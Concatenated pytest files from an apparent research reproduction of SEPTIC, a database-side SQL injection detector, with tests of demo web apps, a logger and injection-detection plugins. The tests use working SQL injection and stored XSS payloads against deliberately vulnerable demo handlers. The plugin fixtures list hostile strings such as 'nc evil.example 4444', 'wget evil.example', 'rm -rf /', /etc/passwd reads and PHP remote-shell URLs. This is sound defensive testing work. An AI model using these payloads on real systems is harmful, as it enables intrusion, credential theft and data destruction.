    )
    problems = _shard_hash_violations(str(bad))
    assert len(problems) == 3
    joined = "\n".join(problems)
    assert "imports zlib" in joined
    assert "crc32()" in joined
    assert "modulo arithmetic" in joined


def test_shard_subsystem_never_reads_the_wall_clock():
    """The sharded fleet runs on the replica sets' virtual tick clocks —
    the sharded crash sweep's determinism depends on it."""
    problems = []
    for path in _python_files(SHARD_ROOT):
        problems.extend(_wall_clock_violations(path))
    assert problems == [], "\n".join(problems)
