"""Tests for the three performance-evaluation applications."""

import pytest

from repro.apps import AddressBook, Refbase, ZeroCMS
from repro.sqldb.engine import Database
from repro.web.http import Request

ALL_APPS = [AddressBook, Refbase, ZeroCMS]


@pytest.mark.parametrize("app_class", ALL_APPS)
class TestWorkloads(object):
    def test_workload_sizes_match_paper(self, app_class):
        # §II-F: Address Book 12 requests, refbase 14, ZeroCMS 26
        expected = {"addressbook": 12, "refbase": 14, "zerocms": 26}
        app = app_class(Database())
        assert len(app.workload_requests()) == expected[app.name]

    def test_workload_replays_cleanly(self, app_class):
        app = app_class(Database())
        for request in app.workload_requests():
            response = app.handle(request)
            assert response.status == 200, (request, response.body[:120])

    def test_workload_loops(self, app_class):
        app = app_class(Database())
        for _ in range(3):
            for request in app.workload_requests():
                assert app.handle(request).status == 200

    def test_workload_has_static_objects(self, app_class):
        app = app_class(Database())
        statics = [r for r in app.workload_requests()
                   if r.path.startswith("/static/")]
        assert statics, "the paper's workloads download web objects"


class TestAddressBook(object):
    def test_list_sorted_by_name(self):
        app = AddressBook(Database())
        response = app.handle(Request.get("/"))
        assert response.body.index("Ann Smith") < \
            response.body.index("Carl Jones")

    def test_view_joins_group(self):
        app = AddressBook(Database())
        response = app.handle(Request.get("/view", {"id": "1"}))
        assert "family" in response.body

    def test_search_like(self):
        app = AddressBook(Database())
        response = app.handle(Request.get("/search", {"q": "smith"}))
        assert "Ann Smith" in response.body
        assert "Carl Jones" not in response.body

    def test_add_then_visible(self):
        app = AddressBook(Database())
        app.handle(Request.post("/add", {
            "name": "Zoe Park", "email": "z@e.com",
            "phone": "555-0110", "group_id": "1",
        }))
        assert "Zoe Park" in app.handle(Request.get("/")).body

    def test_edit_updates_phone(self):
        app = AddressBook(Database())
        app.handle(Request.post("/edit", {"id": "1", "phone": "999"}))
        response = app.handle(Request.get("/view", {"id": "1"}))
        assert "999" in response.body


class TestRefbase(object):
    def test_browse_ordered_by_year_desc(self):
        app = Refbase(Database())
        body = app.handle(Request.get("/")).body
        assert body.index("2016") < body.index("2004")

    def test_years_aggregation(self):
        app = Refbase(Database())
        response = app.handle(Request.get("/years"))
        assert response.ok

    def test_search_by_author_year(self):
        app = Refbase(Database())
        response = app.handle(Request.get(
            "/search", {"author": "medeiros", "year": "2016"}
        ))
        assert "Hacking the DBMS" in response.body

    def test_export_plain_text(self):
        app = Refbase(Database())
        response = app.handle(Request.get("/export", {"year": "2013"}))
        assert "Diglossia" in response.body
        assert response.headers["Content-Type"] == "text/plain"

    def test_add_assigns_serial(self):
        app = Refbase(Database())
        response = app.handle(Request.post("/record/add", {
            "author": "New, A.", "title": "T", "journal": "J",
            "year": "2017",
        }))
        assert "record 6 added" in response.body


class TestZeroCMS(object):
    def test_article_increments_views(self):
        app = ZeroCMS(Database())
        before = app.database.table("articles").rows[0]["views"]
        app.handle(Request.get("/article", {"id": "1"}))
        after = app.database.table("articles").rows[0]["views"]
        assert after == before + 1

    def test_comment_insert_and_delete(self):
        app = ZeroCMS(Database())
        app.handle(Request.post("/comment", {
            "article_id": "1", "author": "t", "body": "hello",
        }))
        assert len(app.database.table("comments")) == 4
        app.handle(Request.post("/comment/delete", {"comment_id": "4"}))
        assert len(app.database.table("comments")) == 3

    def test_search_title_or_body(self):
        app = ZeroCMS(Database())
        response = app.handle(Request.get("/search", {"q": "lorem"}))
        assert "Welcome" in response.body

    def test_workload_covers_all_query_types(self):
        """The paper: 'queries of several types (SELECT, UPDATE, INSERT
        and DELETE)'."""
        app = ZeroCMS(Database())
        commands = set()
        original = app.php.mysql_query

        def spy(sql, site):
            commands.add(sql.strip().split()[0].upper())
            return original(sql, site)

        app.php.mysql_query = spy
        for request in app.workload_requests():
            app.handle(request)
        assert {"SELECT", "UPDATE", "INSERT", "DELETE"} <= commands
