"""Tests for the WaspMon demo application."""

import hashlib

import pytest

from repro.apps.waspmon import WaspMon
from repro.sqldb.engine import Database
from repro.web.http import Request


@pytest.fixture
def app():
    return WaspMon(Database())


class TestBenignBehaviour(object):
    def test_login_success(self, app):
        response = app.handle(
            Request.post("/login", {"username": "alice",
                                    "password": "alicepw"})
        )
        assert response.ok and "Alice" in response.body

    def test_login_failure(self, app):
        response = app.handle(
            Request.post("/login", {"username": "alice",
                                    "password": "wrong"})
        )
        assert response.status == 401

    def test_dashboard(self, app):
        response = app.handle(Request.get("/"))
        assert response.ok
        assert "devices online" in response.body

    def test_device_lookup_requires_correct_pin(self, app):
        right = app.handle(Request.get(
            "/device", {"serial": "WM-100-A", "pin": "1234"}
        ))
        wrong = app.handle(Request.get(
            "/device", {"serial": "WM-100-A", "pin": "1111"}
        ))
        assert "WM-100-A" in right.body
        assert "WM-100-A" not in wrong.body

    def test_history(self, app):
        response = app.handle(Request.get("/history",
                                          {"serial": "WM-100-A"}))
        assert response.ok and "120.5" in response.body

    def test_history_scoped_to_device(self, app):
        response = app.handle(Request.get("/history",
                                          {"serial": "WM-100-A"}))
        assert "7200" not in response.body  # bob's charger not included

    def test_register_and_lookup_device(self, app):
        app.handle(Request.post("/device/new", {
            "serial": "WM-500-E", "pin": "2468",
            "name": "pool pump", "location": "garden",
        }))
        response = app.handle(Request.get(
            "/device", {"serial": "WM-500-E", "pin": "2468"}
        ))
        assert "WM-500-E" in response.body

    def test_add_reading_then_history(self, app):
        app.handle(Request.post("/reading", {
            "serial": "WM-100-A", "watts": "321.5", "comment": "test",
        }))
        response = app.handle(Request.get("/history",
                                          {"serial": "WM-100-A"}))
        assert "321.5" in response.body

    def test_search_range_and_sort(self, app):
        response = app.handle(Request.get("/search", {
            "min_watts": "0", "max_watts": "1000", "sort": "watts",
        }))
        assert response.ok

    def test_update_notes(self, app):
        response = app.handle(Request.post("/device/notes", {
            "serial": "WM-100-A", "pin": "1234", "notes": "serviced",
        }))
        assert "1" in response.body

    def test_update_notes_wrong_pin_noop(self, app):
        response = app.handle(Request.post("/device/notes", {
            "serial": "WM-100-A", "pin": "9", "notes": "hacked",
        }))
        assert "0" in response.body

    def test_disconnect(self, app):
        app.handle(Request.get("/device/disconnect", {"device_id": "1"}))
        rows = app.database.table("devices").rows
        assert rows[0]["connected"] == 0

    def test_feedback_roundtrip(self, app):
        app.handle(Request.post("/feedback", {
            "author": "bob", "message": "nice work",
        }))
        listing = app.handle(Request.get("/feedback/list"))
        assert "nice work" in listing.body

    def test_benign_requests_all_succeed(self, app):
        for request in app.benign_requests():
            assert app.handle(request).status < 500


class TestVulnerabilitiesWithoutSeptic(object):
    """Every sanitized-yet-vulnerable handler is actually exploitable
    (the premise of demo phase A)."""

    def test_v2_numeric_context(self, app):
        response = app.handle(Request.get(
            "/device", {"serial": "x", "pin": "0 OR 1=1"}
        ))
        assert "WM-200-B" in response.body  # other people's devices

    def test_v3_unicode_direct(self, app):
        response = app.handle(Request.get(
            "/history", {"serial": "xʼ OR ʼ1ʼ=ʼ1"}
        ))
        assert "7200" in response.body      # all readings dumped

    def test_v3_ascii_quote_is_safe(self, app):
        # the ASCII flavour IS stopped by the escaping
        response = app.handle(Request.get(
            "/history", {"serial": "x' OR '1'='1"}
        ))
        assert response.ok and "7200" not in response.body

    def test_v4_gbk_escape_eating(self, app):
        alice_hash = hashlib.md5(b"alicepw").hexdigest()
        app.handle(Request.post("/feedback", {
            "author": "eve",
            "message": "¿'), (0x65, (SELECT password FROM users "
                       "WHERE id = 1))-- ",
        }))
        rows = app.database.table("feedback").rows
        assert any(row["message"] == alice_hash for row in rows)

    def test_v5_stored_xss(self, app):
        app.handle(Request.post("/reading", {
            "serial": "WM-100-A", "watts": "1",
            "comment": "<script>alert(1)</script>",
        }))
        response = app.handle(Request.get("/history",
                                          {"serial": "WM-100-A"}))
        assert "<script>" in response.body   # raw, executable

    def test_v6_orderby_subquery_runs(self, app):
        response = app.handle(Request.get("/search", {
            "min_watts": "0", "max_watts": "10000",
            "sort": "(SELECT 1)",
        }))
        assert response.ok


class TestGbkVsUtf8Control(object):
    def test_same_payload_is_harmless_on_utf8(self):
        """Control: the V4 payload only works because of the GBK
        connection; addslashes holds on a UTF-8 connection."""
        app = WaspMon(Database())
        app.php_gbk.connection.charset = "utf8_strict"
        app.handle(Request.post("/feedback", {
            "author": "eve",
            "message": "¿'), (0x65, (SELECT password FROM users "
                       "WHERE id = 1))-- ",
        }))
        rows = app.database.table("feedback").rows
        # stored as literal text, no second row appeared
        assert len(rows) == 1
        assert "SELECT password" in rows[0]["message"]
