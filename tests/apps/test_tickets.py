"""The paper's running example over HTTP: figures 2–4, end to end."""

import pytest

from repro.apps.tickets import TicketSystem
from repro.core.logger import SepticLogger
from repro.core.septic import Mode, Septic
from repro.core.training import SepticTrainer
from repro.sqldb.engine import Database
from repro.web.http import Request


@pytest.fixture
def plain():
    return TicketSystem(Database())


@pytest.fixture
def protected():
    septic = Septic(mode=Mode.TRAINING, logger=SepticLogger(verbose=True))
    app = TicketSystem(Database(septic=septic))
    SepticTrainer(app, septic).train(passes=1, set_prevention=True)
    return app, septic


class TestBenign(object):
    def test_lookup(self, plain):
        response = plain.handle(Request.get(
            "/lookup", {"reservID": "ID34FG", "creditCard": "1234"}
        ))
        assert "Iberia" in response.body

    def test_lookup_wrong_card(self, plain):
        response = plain.handle(Request.get(
            "/lookup", {"reservID": "ID34FG", "creditCard": "0"}
        ))
        assert "no matching reservation" in response.body

    def test_book_and_manifest(self, plain):
        plain.handle(Request.post("/book", {
            "passenger": "Grace Hopper", "flight": "LH1799",
            "creditCard": "2222",
        }))
        manifest = plain.handle(Request.get("/manifest"))
        assert "LH1799" in manifest.body

    def test_seat_change_needs_card(self, plain):
        response = plain.handle(Request.post("/seat", {
            "reservID": "ID34FG", "creditCard": "9", "seat": "01A",
        }))
        assert "updated 0" in response.body


class TestPaperAttacksOverHttp(object):
    def test_figure3_structural_attack_unprotected(self, plain):
        """ID34FG'-- via U+02BC: the card check vanishes."""
        response = plain.handle(Request.get(
            "/lookup", {"reservID": "ID34FGʼ-- ", "creditCard": "0"}
        ))
        assert "Iberia" in response.body  # no card digits needed

    def test_figure4_mimicry_attack_unprotected(self, plain):
        response = plain.handle(Request.get(
            "/lookup", {"reservID": "ID34FGʼ AND 1=1-- ",
                        "creditCard": "0"}
        ))
        assert "Iberia" in response.body

    def test_figure3_blocked_by_septic(self, protected):
        app, septic = protected
        response = app.handle(Request.get(
            "/lookup", {"reservID": "ID34FGʼ-- ", "creditCard": "0"}
        ))
        assert response.status == 500 and "SEPTIC" in response.body
        attack = septic.logger.attacks[-1]
        assert attack.step == 1  # structural, like Figure 3

    def test_figure4_blocked_by_septic_step2(self, protected):
        app, septic = protected
        response = app.handle(Request.get(
            "/lookup", {"reservID": "ID34FGʼ AND 1=1-- ",
                        "creditCard": "0"}
        ))
        assert response.status == 500
        attack = septic.logger.attacks[-1]
        assert attack.step == 2  # syntactical, like Figure 4
        assert "creditcard" in attack.detail

    def test_numeric_card_dump_blocked(self, protected):
        app, septic = protected
        response = app.handle(Request.get(
            "/lookup", {"reservID": "x", "creditCard": "0 OR 1=1"}
        ))
        assert response.status == 500

    def test_benign_still_works_under_septic(self, protected):
        app, septic = protected
        for request in app.benign_requests():
            assert app.handle(request).status == 200
        assert septic.stats.queries_dropped >= 0  # and no FP drops below
        before = septic.stats.queries_dropped
        app.handle(Request.get("/lookup", {"reservID": "KX88ZA",
                                           "creditCard": "8765"}))
        assert septic.stats.queries_dropped == before


class TestMultipleAppsOneDatabase(object):
    """'Protecting any application that uses the database' (§I): two
    applications share one SEPTIC-guarded DBMS; both are protected and
    their models do not interfere (app-qualified external IDs)."""

    def test_shared_dbms(self):
        from repro.apps.addressbook import AddressBook

        septic = Septic(mode=Mode.TRAINING)
        database = Database(septic=septic)
        tickets = TicketSystem(database)
        book = AddressBook(database)
        for request in tickets.benign_requests():
            tickets.handle(request)
        for request in book.workload_requests():
            book.handle(request)
        septic.mode = Mode.PREVENTION

        # both apps keep working
        assert tickets.handle(Request.get(
            "/lookup", {"reservID": "ID34FG", "creditCard": "1234"}
        )).status == 200
        assert book.handle(Request.get("/view", {"id": "1"})).status == 200

        # both apps are protected
        assert tickets.handle(Request.get(
            "/lookup", {"reservID": "xʼ OR ʼ1ʼ=ʼ1", "creditCard": "0"}
        )).status == 500
        # numeric hole in addressbook?  /view uses intval: craft via
        # search LIKE context with unicode quotes instead
        blocked = book.handle(Request.get(
            "/search", {"q": "xʼ OR ʼ1ʼ=ʼ1ʼ-- "}
        ))
        assert blocked.status == 500

    def test_models_are_app_scoped(self):
        septic = Septic(mode=Mode.TRAINING)
        database = Database(septic=septic)
        tickets = TicketSystem(database)
        for request in tickets.benign_requests():
            tickets.handle(request)
        ids = septic.store.ids()
        assert any("tickets:" in full for full in ids)
