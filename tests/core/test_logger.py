"""Tests for the logger / event register."""

from repro.core.logger import EventKind, EventRecord, SepticLogger


class TestLogger(object):
    def test_significant_events_always_recorded(self):
        logger = SepticLogger(verbose=False)
        logger.log(EventKind.ATTACK_DETECTED, query="q")
        logger.log(EventKind.QM_CREATED, query="q")
        logger.log(EventKind.QUERY_DROPPED, query="q")
        logger.log(EventKind.MODE_CHANGED, detail="x")
        assert len(logger) == 4

    def test_verbose_off_drops_chatter(self):
        logger = SepticLogger(verbose=False)
        logger.log(EventKind.QS_BUILT)
        logger.log(EventKind.ID_GENERATED)
        logger.log(EventKind.QUERY_EXECUTED)
        assert len(logger) == 0

    def test_verbose_on_records_everything(self):
        logger = SepticLogger(verbose=True)
        logger.log(EventKind.QS_BUILT)
        logger.log(EventKind.QUERY_EXECUTED)
        assert len(logger) == 2

    def test_sequence_monotonic_even_when_skipped(self):
        logger = SepticLogger(verbose=False)
        logger.log(EventKind.QS_BUILT)           # skipped, still counted
        record = logger.log(EventKind.ATTACK_DETECTED)
        assert record.sequence == 2

    def test_accessors(self):
        logger = SepticLogger()
        logger.log(EventKind.ATTACK_DETECTED, attack_type="SQLI", step=1)
        logger.log(EventKind.QM_CREATED)
        logger.log(EventKind.QUERY_DROPPED)
        assert len(logger.attacks) == 1
        assert len(logger.new_models) == 1
        assert len(logger.drops) == 1

    def test_sink_receives_formatted_lines(self):
        lines = []
        logger = SepticLogger(verbose=True, sink=lines.append)
        logger.log(EventKind.ATTACK_DETECTED, attack_type="SQLI", step=2,
                   query_id="id9", detail="node 5 mismatch")
        assert len(lines) == 1
        assert "ATTACK_DETECTED" in lines[0]
        assert "syntactical" in lines[0]
        assert "id9" in lines[0]

    def test_format_structural_label(self):
        record = EventRecord(EventKind.ATTACK_DETECTED, step=1, sequence=1)
        assert "structural" in record.format()

    def test_long_query_truncated_in_format(self):
        record = EventRecord(EventKind.ATTACK_DETECTED, query="x" * 500,
                             sequence=1)
        assert len(record.format()) < 250

    def test_max_events_bounds_memory(self):
        logger = SepticLogger(verbose=True, max_events=5)
        for _ in range(10):
            logger.log(EventKind.QM_CREATED)
        assert len(logger.events) == 5

    def test_clear(self):
        logger = SepticLogger()
        logger.log(EventKind.QM_CREATED)
        logger.clear()
        assert len(logger) == 0
