"""Tests for the logger / event register."""

from repro.core.logger import EventKind, EventRecord, SepticLogger


class TestLogger(object):
    def test_significant_events_always_recorded(self):
        logger = SepticLogger(verbose=False)
        logger.log(EventKind.ATTACK_DETECTED, query="q")
        logger.log(EventKind.QM_CREATED, query="q")
        logger.log(EventKind.QUERY_DROPPED, query="q")
        logger.log(EventKind.MODE_CHANGED, detail="x")
        assert len(logger) == 4

    def test_verbose_off_drops_chatter(self):
        logger = SepticLogger(verbose=False)
        logger.log(EventKind.QS_BUILT)
        logger.log(EventKind.ID_GENERATED)
        logger.log(EventKind.QUERY_EXECUTED)
        assert len(logger) == 0

    def test_verbose_on_records_everything(self):
        logger = SepticLogger(verbose=True)
        logger.log(EventKind.QS_BUILT)
        logger.log(EventKind.QUERY_EXECUTED)
        assert len(logger) == 2

    def test_sequence_monotonic_even_when_skipped(self):
        logger = SepticLogger(verbose=False)
        logger.log(EventKind.QS_BUILT)           # skipped, still counted
        record = logger.log(EventKind.ATTACK_DETECTED)
        assert record.sequence == 2

    def test_accessors(self):
        logger = SepticLogger()
        logger.log(EventKind.ATTACK_DETECTED, attack_type="SQLI", step=1)
        logger.log(EventKind.QM_CREATED)
        logger.log(EventKind.QUERY_DROPPED)
        assert len(logger.attacks) == 1
        assert len(logger.new_models) == 1
        assert len(logger.drops) == 1

    def test_sink_receives_formatted_lines(self):
        lines = []
        logger = SepticLogger(verbose=True, sink=lines.append)
        logger.log(EventKind.ATTACK_DETECTED, attack_type="SQLI", step=2,
                   query_id="id9", detail="node 5 mismatch")
        assert len(lines) == 1
        assert "ATTACK_DETECTED" in lines[0]
        assert "syntactical" in lines[0]
        assert "id9" in lines[0]

    def test_format_structural_label(self):
        record = EventRecord(EventKind.ATTACK_DETECTED, step=1, sequence=1)
        assert "structural" in record.format()

    def test_long_query_truncated_in_format(self):
        record = EventRecord(EventKind.ATTACK_DETECTED, query="x" * 500,
                             sequence=1)
        assert len(record.format()) < 250

    def test_max_events_bounds_memory(self):
        logger = SepticLogger(verbose=True, max_events=5)
        for _ in range(10):
            logger.log(EventKind.QM_CREATED)
        assert len(logger.events) == 5

    def test_clear(self):
        logger = SepticLogger()
        logger.log(EventKind.QM_CREATED)
        logger.clear()
        assert len(logger) == 0


class TestBoundedRegisterKeepsEvidence(object):
    """Regression tests: a full register used to silently discard
    ATTACK_DETECTED / QUERY_DROPPED records — the one thing the paper's
    administrator workflow depends on seeing."""

    def test_attack_evicts_oldest_chatter_when_full(self):
        logger = SepticLogger(verbose=True, max_events=3)
        for _ in range(3):
            logger.log(EventKind.QUERY_EXECUTED)
        logger.log(EventKind.ATTACK_DETECTED, query="evil")
        kinds = [e.kind for e in logger.events]
        assert kinds == [EventKind.QUERY_EXECUTED, EventKind.QUERY_EXECUTED,
                        EventKind.ATTACK_DETECTED]
        assert logger.dropped_events == 1

    def test_attack_survives_arbitrary_chatter_flood(self):
        logger = SepticLogger(verbose=True, max_events=4)
        logger.log(EventKind.ATTACK_DETECTED, query="evil")
        for _ in range(50):
            logger.log(EventKind.QUERY_EXECUTED)
        assert len(logger.attacks) == 1
        assert logger.attacks[0].query == "evil"

    def test_full_register_of_evidence_evicts_oldest_evidence(self):
        logger = SepticLogger(verbose=False, max_events=2)
        logger.log(EventKind.ATTACK_DETECTED, query="first")
        logger.log(EventKind.ATTACK_DETECTED, query="second")
        logger.log(EventKind.ATTACK_DETECTED, query="third")
        assert [e.query for e in logger.events] == ["second", "third"]
        assert logger.dropped_events == 1

    def test_incoming_chatter_is_dropped_not_evicting(self):
        logger = SepticLogger(verbose=True, max_events=2)
        logger.log(EventKind.ATTACK_DETECTED, query="evil")
        logger.log(EventKind.QM_CREATED)
        logger.log(EventKind.QUERY_EXECUTED)   # register full: discarded
        logger.log(EventKind.QS_BUILT)
        assert [e.kind for e in logger.events] == [
            EventKind.ATTACK_DETECTED, EventKind.QM_CREATED]
        assert logger.dropped_events == 2

    def test_dropped_events_zero_when_register_has_room(self):
        logger = SepticLogger(verbose=True, max_events=10)
        for _ in range(5):
            logger.log(EventKind.QUERY_EXECUTED)
        assert logger.dropped_events == 0

    def test_clear_resets_dropped_counter(self):
        logger = SepticLogger(verbose=True, max_events=1)
        logger.log(EventKind.QUERY_EXECUTED)
        logger.log(EventKind.QUERY_EXECUTED)
        assert logger.dropped_events == 1
        logger.clear()
        assert logger.dropped_events == 0


class TestExportJson(object):
    def test_export_includes_model_field(self, tmp_path):
        import json

        from repro.core.query_model import QueryModel
        from repro.sqldb.items import Item, ItemKind

        logger = SepticLogger()
        model = QueryModel([Item(ItemKind.SELECT_FIELD, "a")])
        logger.log(EventKind.ATTACK_DETECTED, query="q", query_id="id1",
                   model=model, attack_type="SQLI", step=2)
        path = str(tmp_path / "events.json")
        logger.export_json(path)
        with open(path) as handle:
            payload = json.load(handle)
        assert payload[0]["model"] == model.canonical()
        assert payload[0]["attack_type"] == "SQLI"

    def test_export_tolerates_missing_model(self, tmp_path):
        import json

        logger = SepticLogger()
        logger.log(EventKind.MODE_CHANGED, detail="mode=PREVENTION")
        path = str(tmp_path / "events.json")
        logger.export_json(path)
        with open(path) as handle:
            payload = json.load(handle)
        assert payload[0]["model"] is None
