"""Tests for the stored-injection plugins."""

import pytest

from repro.core.plugins import (
    LFIPlugin,
    OSCIPlugin,
    RCEPlugin,
    RFIPlugin,
    StoredXSSPlugin,
    default_plugins,
)


class TestPluginInfrastructure(object):
    def test_default_set_covers_paper_classes(self):
        types = {plugin.attack_type for plugin in default_plugins()}
        assert types == {"STORED_XSS", "STORED_RFI", "STORED_LFI",
                         "STORED_OSCI", "STORED_RCE"}

    def test_inspect_short_circuits_on_empty(self):
        assert not StoredXSSPlugin().inspect("")

    def test_inspect_requires_both_steps(self):
        plugin = StoredXSSPlugin()
        # step 1 fires ('<' present) but step 2 finds no script constructs
        assert plugin.suspicious("a < b and b > c")
        assert not plugin.inspect("a < b and b > c")


class TestXSS(object):
    plugin = StoredXSSPlugin()

    @pytest.mark.parametrize("payload", [
        "<script>alert('Hello!');</script>",          # the paper's example
        "<SCRIPT src=http://evil/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<a href=\"javascript:alert(1)\">go</a>",
        "<svg onload=alert(1)>",
        "<iframe src=\"data:text/html;base64,xxx\"></iframe>",
    ])
    def test_attacks_detected(self, payload):
        assert self.plugin.inspect(payload)

    @pytest.mark.parametrize("text", [
        "hello world",
        "price < 100 and quality > average",
        "x <b>bold</b> y",                      # formatting, not script
        "2 > 1",
        "mailto:someone@example.com",
        "<p>just a paragraph</p>",
    ])
    def test_benign_passes(self, text):
        assert not self.plugin.inspect(text)

    def test_explain_lists_findings(self):
        findings = self.plugin.explain("<script>alert(1)</script>")
        assert any("script" in f for f in findings)


class TestRFI(object):
    plugin = RFIPlugin()

    @pytest.mark.parametrize("payload", [
        "http://evil.example/shell.php",
        "https://evil.example/x.txt",
        "ftp://evil.example/kit.phtml",
        "http://evil.example/page?cmd=id",
        "php://input",
        "php://filter/convert.base64-encode/resource=index",
        "expect://id",
        "data:text/plain;base64,SGVsbG8=",
    ])
    def test_attacks_detected(self, payload):
        assert self.plugin.inspect(payload)

    @pytest.mark.parametrize("text", [
        "see https://example.com/about for details",   # no script ext/args
        "http://example.com/",
        "my favourite protocol is http",
        "just words",
    ])
    def test_benign_passes(self, text):
        assert not self.plugin.inspect(text)


class TestLFI(object):
    plugin = LFIPlugin()

    @pytest.mark.parametrize("payload", [
        "../../../../etc/passwd",
        "c:\\windows\\system32",
        "%2e%2e%2f%2e%2e%2fetc",
        "/etc/shadow",
        "/proc/self/environ",
        "php://filter/read=convert/resource=config",
        "file\x00.jpg",
    ])
    def test_attacks_detected(self, payload):
        assert self.plugin.inspect(payload)

    @pytest.mark.parametrize("text", [
        "path/to/photo.jpg",
        "10/07/2016",
        "a simple sentence",
        "etc and so on",
    ])
    def test_benign_passes(self, text):
        assert not self.plugin.inspect(text)


class TestOSCI(object):
    plugin = OSCIPlugin()

    @pytest.mark.parametrize("payload", [
        "; cat /etc/passwd",
        "x && rm -rf /",
        "a | nc evil.example 4444",
        "`whoami`",
        "$(id)",
        "good; wget evil.example",
    ])
    def test_attacks_detected(self, payload):
        assert self.plugin.inspect(payload)

    @pytest.mark.parametrize("text", [
        "fish & chips",                 # ampersand without command
        "R&D department",
        "5 | 3 = 7 in binary",          # pipe without command
        "wait; see you later",          # ; without a command name
        "plain text",
    ])
    def test_benign_passes(self, text):
        assert not self.plugin.inspect(text)


class TestRCE(object):
    plugin = RCEPlugin()

    @pytest.mark.parametrize("payload", [
        "<?php eval($_GET['x']); ?>",
        "<?= system('id') ?>",
        "eval(base64_decode('aWQ='))",
        "system($_GET[0])",
        'O:8:"Evil_Obj":1:{s:3:"cmd";s:6:"whoami";}',
        "{{ 7 * 7 }}",
        "__import__('os').system('id')",
    ])
    def test_attacks_detected(self, payload):
        assert self.plugin.inspect(payload)

    @pytest.mark.parametrize("text", [
        "the evaluation went well",
        "systemic improvements (2016)",
        "I bought it for $5 {used}",
        "a < b",
    ])
    def test_benign_passes(self, text):
        assert not self.plugin.inspect(text)


class TestEmailHeaderInjectionExtension(object):
    """The extension plugin (not in the paper's default set)."""

    def _plugin(self):
        from repro.core.plugins.email import EmailHeaderInjectionPlugin

        return EmailHeaderInjectionPlugin()

    @pytest.mark.parametrize("payload", [
        "bob\r\nBcc: everyone@example.com",
        "hi%0aSubject: you won",
        "x\nContent-Type: text/html",
        "end\r\n.\r\nMAIL FROM: attacker",
    ])
    def test_attacks_detected(self, payload):
        assert self._plugin().inspect(payload)

    @pytest.mark.parametrize("text", [
        "a perfectly plain name",
        "multi\nline\ncomment without headers",
        "see section 0a for details",
    ])
    def test_benign_passes(self, text):
        assert not self._plugin().inspect(text)

    def test_not_in_default_set(self):
        assert "STORED_EMAIL_HEADER" not in {
            p.attack_type for p in default_plugins()
        }

    def test_composes_with_detector(self):
        from repro.core.detector import AttackDetector
        from repro.core.plugins.email import EmailHeaderInjectionPlugin
        from repro.core.query_structure import QueryStructure
        from repro.sqldb.parser import parse_one
        from repro.sqldb.validator import validate

        detector = AttackDetector(
            plugins=default_plugins() + [EmailHeaderInjectionPlugin()]
        )
        qs = QueryStructure.from_stack(validate(parse_one(
            "INSERT INTO t (c) VALUES ('x\\r\\nBcc: list@example.com')"
        )))
        detection = detector.detect_stored(qs)
        assert detection.attack_type == "STORED_EMAIL_HEADER"
