"""Tests for the ID generator module."""

from repro.core.id_generator import IdGenerator, QueryId
from repro.core.query_model import QueryModel
from repro.core.query_structure import QueryStructure
from repro.sqldb.parser import parse_one
from repro.sqldb.validator import validate


def model_of(sql):
    qs = QueryStructure.from_stack(validate(parse_one(sql)))
    return QueryModel.from_structure(qs)


class TestExternalId(object):
    def test_septic_marker_wins(self):
        gen = IdGenerator()
        assert gen.external_id(["septic:app:12"]) == "app:12"

    def test_septic_marker_preferred_over_bare(self):
        gen = IdGenerator()
        assert gen.external_id(["note", "septic:app:12"]) == "app:12"

    def test_bare_token_fallback(self):
        gen = IdGenerator()
        assert gen.external_id(["login.php:33"]) == "login.php:33"

    def test_bare_comment_with_spaces_rejected(self):
        gen = IdGenerator()
        assert gen.external_id(["this is prose"]) is None

    def test_bare_fallback_can_be_disabled(self):
        gen = IdGenerator(accept_bare_comments=False)
        assert gen.external_id(["login.php:33"]) is None
        assert gen.external_id(["septic:x"]) == "x"

    def test_no_comments(self):
        assert IdGenerator().external_id([]) is None

    def test_overlong_bare_token_rejected(self):
        gen = IdGenerator()
        assert gen.external_id(["x" * 200]) is None


class TestInternalId(object):
    def test_stable_across_calls(self):
        gen = IdGenerator()
        model = model_of("SELECT a FROM t WHERE b = 1")
        assert gen.internal_id(model) == gen.internal_id(model)

    def test_data_independent(self):
        gen = IdGenerator()
        a = model_of("SELECT a FROM t WHERE b = 1")
        b = model_of("SELECT a FROM t WHERE b = 999")
        assert gen.internal_id(a) == gen.internal_id(b)

    def test_structure_dependent(self):
        gen = IdGenerator()
        a = model_of("SELECT a FROM t WHERE b = 1")
        b = model_of("SELECT a FROM t WHERE b = 1 AND c = 2")
        assert gen.internal_id(a) != gen.internal_id(b)

    def test_type_dependent(self):
        gen = IdGenerator()
        a = model_of("SELECT a FROM t WHERE b = 1")
        b = model_of("SELECT a FROM t WHERE b = 'one'")
        assert gen.internal_id(a) != gen.internal_id(b)

    def test_length(self):
        assert len(IdGenerator().internal_id(model_of("SELECT 1"))) == 16


class TestComposition(object):
    def test_both_identifiers(self):
        gen = IdGenerator()
        model = model_of("SELECT 1")
        qid = gen.generate(["septic:site:9"], model)
        assert qid.external == "site:9"
        assert qid.value == "site:9§" + qid.internal

    def test_internal_only(self):
        qid = IdGenerator().generate([], model_of("SELECT 1"))
        assert qid.external is None
        assert qid.value == qid.internal

    def test_equality_and_hash(self):
        gen = IdGenerator()
        model = model_of("SELECT 1")
        a = gen.generate(["septic:s"], model)
        b = gen.generate(["septic:s"], model)
        assert a == b and hash(a) == hash(b)

    def test_same_structure_different_sites_distinct(self):
        gen = IdGenerator()
        model = model_of("SELECT a FROM t WHERE b = 1")
        a = gen.generate(["septic:site1"], model)
        b = gen.generate(["septic:site2"], model)
        assert a != b

    def test_queryid_repr(self):
        assert "QueryId" in repr(QueryId("abc", external="e"))
