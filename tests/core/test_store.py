"""Tests for the QM learned store."""

import os

from repro.core.id_generator import IdGenerator, QueryId
from repro.core.query_model import QueryModel
from repro.core.query_structure import QueryStructure
from repro.core.store import QMStore
from repro.sqldb.parser import parse_one
from repro.sqldb.validator import validate


def model_of(sql):
    qs = QueryStructure.from_stack(validate(parse_one(sql)))
    return QueryModel.from_structure(qs)


def qid_for(sql, external=None):
    model = model_of(sql)
    gen = IdGenerator()
    return QueryId(gen.internal_id(model), external), model


class TestStoreBasics(object):
    def test_put_and_get(self):
        store = QMStore()
        qid, model = qid_for("SELECT a FROM t")
        assert store.put(qid, model)
        assert store.get(qid) == model
        assert qid in store
        assert len(store) == 1

    def test_put_twice_returns_false(self):
        # the demo: a query processed twice creates its model only once
        store = QMStore()
        qid, model = qid_for("SELECT a FROM t")
        assert store.put(qid, model)
        assert not store.put(qid, model)
        assert len(store) == 1

    def test_get_missing_is_none(self):
